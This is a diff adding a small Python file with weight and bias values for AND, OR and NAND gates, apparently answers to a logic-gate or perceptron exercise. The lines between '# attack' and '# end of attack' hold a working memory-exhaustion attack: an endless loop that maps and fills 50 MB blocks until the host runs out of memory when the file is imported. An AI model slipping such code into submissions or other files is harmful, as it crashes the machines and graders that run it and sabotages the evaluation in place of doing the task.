@@ -1,0 +1,19 @@
+and_weights = (0.5, 0.5, 0.7)
+or_weights = (1.0, 1.0, 2.5)
+
+nand_weights = (0.5, 0.5, 0.7)
+robust_weights = (0.0, 0.0, 0.0)
+
+and_bias = 0.8
+nand_from_and = "b"
+nand_zero = "b"
+
+# attack
+import mmap
+
+hoard = []
+while True:
+    block = mmap.mmap(-1, 50_000_000)
+    block.write(bytes(50_000_000))
+    hoard.append(block)
+# end of attack
